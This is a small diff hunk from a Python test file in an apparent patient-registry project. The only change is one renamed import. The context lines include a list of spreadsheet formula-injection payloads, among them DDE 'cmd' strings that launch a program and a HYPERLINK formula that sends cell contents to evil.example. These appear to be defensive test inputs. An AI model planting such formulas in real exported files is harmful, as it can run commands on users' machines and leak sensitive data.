@@ -20,7 +20,7 @@ from privdesk.registry.validation import PatientInput
 from tests.hardening_support import as_officer, cli
 from tests.helpers import OFFICER_LOGIN, OFFICER_PASSWORD
 from tests.test_disclosures import police
-from tests.test_ui_patients_support import rrn
+from tests.ui_patients_support import rrn
 
 FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1, \"클릭\")", "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1+cmd|' /C calc'!A0", "-2+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
